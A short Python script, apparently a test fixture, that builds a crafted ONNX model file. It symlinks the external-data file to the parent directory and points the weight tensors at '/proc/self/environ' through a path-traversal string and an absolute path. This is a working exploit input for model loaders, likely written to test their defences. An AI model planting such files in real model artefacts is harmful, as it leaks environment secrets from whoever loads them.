# ruff: noqa: D100
# mypy: ignore-errors
# Lets the weights of the model be files elsewhere: a link, a path that leaves the folder, and an absolute one.
from pathlib import Path

import numpy as np
from by_hand import deliver, model
from onnx import ModelProto, TensorProto, helper

Path("model.onnx.data").symlink_to(Path.cwd().parent)
content = ModelProto()
content.ParseFromString(
    model(
        [helper.make_node("Gemm", ["x", "w", "b"], ["y"])],
        {"w": np.zeros((10, 1), np.float32), "b": np.zeros(1, np.float32)},
    )
)
for tensor, location in zip(
    content.graph.initializer, ("../../../../../../proc/self/environ", "/proc/self/environ"), strict=True
):
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, said in {"location": location, "offset": "0", "length": str(4 * tensor.dims[0])}.items():
        tensor.external_data.add(key=key, value=said)
deliver(content.SerializeToString())
